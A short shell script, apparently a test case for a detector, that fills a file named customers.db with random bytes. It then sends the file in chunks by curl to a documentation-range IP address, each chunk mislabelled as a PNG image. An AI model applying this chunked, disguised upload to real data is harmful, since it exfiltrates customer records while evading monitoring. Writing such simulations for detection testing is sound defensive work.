#!/bin/sh
. /opt/case/case.sh

head -c 40000000 /dev/urandom >/srv/data/customers.db
for n in 0 1 2 3 4; do
    dd if=/srv/data/customers.db bs=1M skip=$((n * 8)) count=8 status=none | curl -sf --data-binary @- -H 'Content-Type: image/png' http://203.0.113.10:8080/img/$n >/dev/null
    sleep 2
done
took_place
